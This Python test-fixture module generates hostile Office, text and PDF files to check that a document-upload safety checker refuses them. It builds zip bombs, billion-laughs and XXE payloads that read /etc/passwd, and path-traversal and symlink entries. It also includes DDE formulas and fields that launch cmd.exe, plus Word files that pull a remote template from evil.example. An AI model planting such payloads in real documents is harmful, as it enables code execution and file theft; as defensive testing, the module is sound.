"""Tables and documents made to harm whoever opens them: {what it is: (name, how to make it, the reason it is refused)}.

Each is made from honest parts by changing the one thing that makes it hostile. Reasons are keys of
``tracker.exchange.safety.sentences.SENTENCES``; for those refused from outside they are the constants of ``check``.
"""

import io
import random
import struct
from functools import cache
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from tests.exchange import hostile_pdf
from tests.reporting.test_evidence import ole
from tracker.exchange.safety import check
from tracker.reporting import evidence

XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
FORMATS = "application/vnd.openxmlformats-officedocument"
LINK = 0o120777 << 16
MEGABYTE = 1024**2


def relations(*rows):
    """A part of relationships; each row is (type, target) or (type, target, mode)."""
    found = "".join(
        f'<Relationship Id="rId{at}" Type="{OFFICE}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode[0]}"' if mode else "") + "/>"
        for at, (kind, target, *mode) in enumerate(rows, start=1)
    )  # fmt: skip
    return f'{XML}<Relationships xmlns="{RELATIONS}">{found}</Relationships>'


def content_types(main):
    return (f'{XML}<Types xmlns="{TYPES}"><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/x" ContentType="{main}"/></Types>')  # fmt: skip


def sheet(rows="", *, before="", after=""):
    return f'{XML}<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'


def book_parts(rows='<row r="1"><c r="A1"><v>1</v></c></row>', **changed):
    """The parts of a small workbook; `changed` adds or replaces some by name, None takes one away."""
    strings = '<si><t>花都区</t></si>'
    parts = {
        "[Content_Types].xml": content_types(f"{FORMATS}.spreadsheetml.sheet.main+xml"),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'{XML}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets>'
                           '<sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml"),
                                                ("sharedStrings", "sharedStrings.xml"), ("styles", "styles.xml")),
        "xl/worksheets/sheet1.xml": sheet(rows),
        "xl/sharedStrings.xml": f'{XML}<sst xmlns="{MAIN}">{strings}</sst>',
        "xl/styles.xml": f'{XML}<styleSheet xmlns="{MAIN}"><cellXfs><xf numFmtId="0"/></cellXfs></styleSheet>',
    } | changed  # fmt: skip
    return {name: content for name, content in parts.items() if content is not None}


def word_parts(body="<w:p><w:r><w:t>正文</w:t></w:r></w:p>", rels=(), **changed):
    """The parts of a small Word document."""
    parts = {
        "[Content_Types].xml": content_types(f"{FORMATS}.wordprocessingml.document.main+xml"),
        "_rels/.rels": relations(("officeDocument", "word/document.xml")),
        "word/document.xml": f'{XML}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>',
        "word/_rels/document.xml.rels": relations(*rels),
    } | changed  # fmt: skip
    return {name: content for name, content in parts.items() if content is not None}


def packed(parts, *, method=ZIP_DEFLATED):
    """A zip archive; always dated 1980, so always the same bytes."""
    file = io.BytesIO()
    with ZipFile(file, "w") as archive:
        for name, content in parts.items() if isinstance(parts, dict) else parts:
            info = name if isinstance(name, ZipInfo) else ZipInfo(name)
            archive.writestr(info, content, method, compresslevel=9)
    return file.getvalue()


def book(*arguments, **changed):
    return packed(book_parts(*arguments, **changed))


def word(*arguments, **changed):
    return packed(word_parts(*arguments, **changed))


def with_sizes(content, change):
    """An archive whose largest part states another unpacked size, in its directory and in its local header."""
    content = bytearray(content)
    at = max(_marks(content, b"PK\x01\x02"), key=lambda at: struct.unpack_from("<L", content, at + 24)[0])
    (size,) = struct.unpack_from("<L", content, at + 24)
    (local,) = struct.unpack_from("<L", content, at + 42)
    struct.pack_into("<L", content, at + 24, change(size))
    struct.pack_into("<L", content, local + 22, change(size))
    return bytes(content)


def with_flag(content, flag):
    content = bytearray(content)
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        for place in _marks(content, mark):
            struct.pack_into("<H", content, place + at, flag)
    return bytes(content)


def with_wrong_checksum(content):
    content = bytearray(content)
    for mark, at in ((b"PK\x01\x02", 16), (b"PK\x03\x04", 14)):
        content[_marks(content, mark)[-1] + at] ^= 0xFF
    return bytes(content)


def overlapping():
    """Every entry of the directory is the same stretch of the file, as in the bombs that unpack to petabytes."""
    content = bytearray(packed([(f"xl/worksheets/sheet{number}.xml", "0" * 5000) for number in range(100, 200)]))
    first, *others = _marks(content, b"PK\x01\x02")
    for at in others:
        content[at + 42 : at + 46] = content[first + 42 : first + 46]
    return bytes(content)


def _marks(content, mark):
    found, at = [], content.find(mark)
    while at >= 0:
        found.append(at)
        at = content.find(mark, at + 4)
    return found


def linked():
    info = ZipInfo("xl/media/image1.png")
    info.external_attr, info.create_system = LINK, 3
    return packed([*book_parts().items(), (info, "/etc/passwd")], method=ZIP_STORED)


def dense_strings():
    """90 MB of shared strings, each a little different, so that they pack no better than text does."""
    chance = random.Random(4)
    strings = "".join(f"<si><t>{chance.getrandbits(48):x}{'长' * 60}</t></si>" for _ in range(400_000))
    return book(**{"xl/sharedStrings.xml": f'{XML}<sst xmlns="{MAIN}">{strings}</sst>'})


def one_string_everywhere():
    """A text as long as a cell holds, in 50,000 cells: some kilobytes that would become gigabytes."""
    rows = "".join(
        f'<row r="{row}">' + "".join(f'<c t="s" s="{row * at % 97}"><v>0</v></c>' for at in range(50)) + "</row>"
        for row in range(1, 1001)
    )
    return book(rows, **{"xl/sharedStrings.xml": f'{XML}<sst xmlns="{MAIN}"><si><t>{"长" * 32_767}</t></si></sst>'})


def empty_cells():
    rows = ("".join(f'<c s="{row * at % 97}"/>' for at in range(99)) for row in range(31_000))
    return book("".join(f"<row>{cells}</row>" for cells in rows))


def laughing(root, namespace):
    entities = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
    return (f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY l0 "ha">{entities}]>'
            f'<{root} xmlns="{namespace}">&l9;</{root}>')  # fmt: skip


def fetching(root, namespace):
    return (f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            f'<{root} xmlns="{namespace}">&x;</{root}>')  # fmt: skip


def rows_of(numbers, cells="<c><v>1</v></c>"):
    return "".join(f'<row r="{number}">{cells}</row>' for number in numbers)


def embedded(kind, target, content=b"x"):
    return word(rels=[(kind, target)], **{f"word/{target}": content})


SHEET = "xl/worksheets/sheet1.xml"
DDE = '<row r="1"><c r="A1"><f>cmd|\'/C calc\'!A0</f><v>0</v></c></row>'
MACRO_TYPE = content_types("application/vnd.ms-excel.sheet.macroEnabled.main+xml")
TRUNCATED = book(rows_of(range(1, 2000)))
FIELD = '<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO cmd.exe "/k calc" </w:instrText></w:r></w:p>'

BOOKS = {
    "a part that packs a thousandfold": (lambda: book(sheet(" " * 90 * MEGABYTE)), "unpacked"),
    "many parts that fill the memory together": (
        lambda: book(**{f"xl/media/{at}.emf": bytes(70 * MEGABYTE) for at in range(3)}), "unpacked"),
    "a part of four gigabytes": (lambda: with_sizes(book(), lambda _size: 0xFFFFFFF0), "unpacked"),
    "an archive in the archive": (lambda: book(**{"xl/media/42.zip": packed({"a": "b"})}), "embedded"),
    "an archive that calls itself a picture": (lambda: book(**{"xl/media/image1.png": packed({"a": "b"})}), "embedded"),
    "a program in the archive": (lambda: book(**{"xl/media/setup.exe": b"MZ"}), "embedded"),
    "entries over one another": (overlapping, "damaged"),
    "65,535 entries": (lambda: packed([(f"xl/{at}", "") for at in range(65_535)], method=ZIP_STORED), "entries"),
    "201 entries": (lambda: book(**{f"xl/{at}.xml": "<a/>" for at in range(194)}), "entries"),
    "a size stated too small": (lambda: with_sizes(TRUNCATED, lambda size: size - 1000), "damaged"),
    "a size stated too large": (lambda: with_sizes(TRUNCATED, lambda size: size + 1000), "damaged"),
    "a wrong checksum": (lambda: with_wrong_checksum(book()), "damaged"),
    "cut after its first bytes": (lambda: TRUNCATED[:100], "damaged"),
    "cut in the middle": (lambda: TRUNCATED[: len(TRUNCATED) // 2], "damaged"),
    "cut in its directory": (lambda: TRUNCATED[:-200], "damaged"),
    "without its last byte": (lambda: TRUNCATED[:-1], "damaged"),
    "encrypted by Excel": (lambda: ole("EncryptionInfo", "EncryptedPackage"), evidence.LOCKED),
    "encrypted as an archive": (lambda: with_flag(book(), 1), "locked"),
    "with macros": (lambda: book(**{"xl/vbaProject.bin": ole("_VBA_PROJECT")}), "macros"),
    "with macros by its list of contents": (lambda: book(**{"[Content_Types].xml": MACRO_TYPE}), "macros"),
    "with macros of 1992": (lambda: book(**{"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    "a link to another workbook": (lambda: book(**{"xl/externalLinks/externalLink1.xml": "<a/>"}), "links"),
    "a link to another workbook under another name": (
        lambda: book(**{"xl/other/_rels/a.xml.rels": relations(("externalLinkPath", "file:///x.xlsx", "External"))}),
        "links"),
    "a query of a database": (lambda: book(**{"xl/connections.xml": "<connections/>"}), "links"),
    "a formula that starts a program": (lambda: book(DDE), "links"),
    "an absolute name": (lambda: packed([*book_parts().items(), ("/etc/cron.d/x", "x")]), "damaged"),
    "a name that leads out": (lambda: packed([*book_parts().items(), ("xl/../../x", "x")]), "damaged"),
    "a link of Unix": (linked, "damaged"),
    "names twice": (lambda: packed([*book_parts().items(), (SHEET, sheet())]), "damaged"),
    "names twice but for their case": (lambda: packed([*book_parts().items(), (SHEET.upper(), sheet())]), "damaged"),
    "rows without end": (lambda: book(**{SHEET: sheet("<row/>" * 4_000_000)}), "unpacked"),
    "millions of empty cells": (
        empty_cells, "cells"),
    "every column used": (lambda: book(f'<row r="1">{"<c><v>1</v></c>" * 16_384}</row>'), "columns"),
    "a row beyond the last": (lambda: book(rows_of(range(1, 60_002))), "rows"),
    "a cell far below": (lambda: book(rows_of([1, 1_048_576])), "gap"),
    "a row that no sheet has": (lambda: book(rows_of([99_999_999])), "damaged"),
    "a column that no sheet has": (lambda: book('<row r="1"><c r="ZZZ1"><v>1</v></c></row>'), "damaged"),
    "rows in no order": (lambda: book(rows_of([5, 3])), "damaged"),
    "a text that is not there": (lambda: book('<row r="1"><c t="s"><v>7</v></c></row>'), "damaged"),
    "a billion laughs": (lambda: book(**{"xl/sharedStrings.xml": laughing("sst", MAIN)}), "damaged"),
    "a file of the server": (lambda: book(**{SHEET: fetching("worksheet", MAIN)}), "damaged"),
    "a declaration in UTF-16": (
        lambda: book(**{"xl/styles.xml": fetching("styleSheet", MAIN).replace('?>', ' encoding="utf-16"?>', 1)
                        .encode("utf-16")}), "damaged"),
    "more text than ten ledgers": (dense_strings, "characters"),
    "one text in all cells": (one_string_everywhere, "characters"),
    "XML that breaks off": (lambda: book(**{SHEET: sheet("<row><c><v>1")[:-40]}), "damaged"),
    "elements within elements": (lambda: book(**{SHEET: "<a>" * 200_000}), "damaged"),
    "no sheet": (lambda: book(**{"xl/_rels/workbook.xml.rels": relations()}), "no sheet"),
    "no workbook": (lambda: book(**{"xl/workbook.xml": None}), "damaged"),
    "a Word file": (lambda: word(), check.WRONG_CONTENT),
    "a web page": (lambda: b"<html><table><tr><td>1</td></tr></table></html>", check.WRONG_CONTENT),
    "an old Excel file under a new name": (lambda: ole("Workbook"), check.WRONG_CONTENT),
    "a program": (lambda: b"MZ\x90\0" + bytes(500), check.WRONG_CONTENT),
    "nothing": (lambda: b"", evidence.EMPTY),
    "eleven megabytes": (lambda: bytes(11 * MEGABYTE), evidence.TOO_LARGE),
}  # fmt: skip

WORDS = {
    "an external template": (
        lambda: word(**{"word/_rels/settings.xml.rels": relations(
            ("attachedTemplate", "http://evil.example/x.dotm", "External"))}), "links"),
    "a picture of another server": (lambda: word(rels=[("image", "http://evil.example/x.png", "External")]), "links"),
    "another file taken in": (lambda: embedded("aFChunk", "chunk.html", "<html/>"), "embedded"),
    "an object of another program": (lambda: embedded("oleObject", "embeddings/a.bin", ole("Package")), "embedded"),
    "an object under another name": (lambda: word(**{"word/media/image1.png": ole("Package")}), "embedded"),
    "a field that starts a program": (lambda: word(FIELD), "links"),
    "a document with macros": (lambda: word(**{"word/vbaProject.bin": b"x"}), "macros"),
    "a document of declarations": (
        lambda: word(**{"word/document.xml": laughing("document", WORD)}), "damaged"),
    "text without end": (
        lambda: word("".join(f"<w:p><w:r><w:t>{at}{'长' * 40}</w:t></w:r></w:p>" for at in range(50_000))),
        "characters"),
    "paragraphs without end": (
        lambda: word("".join(f'<w:p w:rsidR="{at:08X}"/>' for at in range(400_001))), "heavy"),
    "paragraphs within paragraphs": (lambda: word("<w:p><w:r>" * 90_000), "damaged"),
    "a field far into the file": (lambda: word(f"<w:p/>{'<!--' + 'x' * 65_200 + '-->'}{FIELD}"), "links"),
    "an encrypted document": (lambda: ole("EncryptedPackage"), evidence.LOCKED),
    "a document without text": (lambda: word("<w:p/>"), "no text"),
    "a workbook": (book, check.WRONG_CONTENT),
}  # fmt: skip

TEXTS = {
    "a program as text": (lambda: b"MZ\x90\0" + bytes(500), check.WRONG_CONTENT),
    "a web page as text": (lambda: b"<!doctype html><p>x</p>", check.WRONG_CONTENT),
    "blanks": (lambda: b" \n \n", "no text"),
    "very much text": (lambda: ("长" * 1_000_001).encode(), "characters"),
}

NAMES = {
    "台账.xls": check.SAVE_ANEW, "台账.et": check.SAVE_ANEW, "台账.csv": check.SAVE_ANEW, "台账.xlsm": evidence.MACROS,
    "台账.xlsb": evidence.MACROS, "台账.docx": check.WRONG_KIND, "台账": check.WRONG_KIND, "xlsx": check.WRONG_KIND,
}  # fmt: skip

BUILDERS = {
    **{f"book: {what}": ("台账.xlsx", *case) for what, case in BOOKS.items()},
    **{f"word: {what}": ("方案.docx", *case) for what, case in WORDS.items()},
    **{f"text: {what}": ("方案.txt", *case) for what, case in TEXTS.items()},
    **{f"pdf: {what}": ("方案.pdf", *case) for what, case in hostile_pdf.FILES.items()},
}


@cache
def hostile(what):
    """The bytes of a hostile file, made once."""
    return BUILDERS[what][1]()
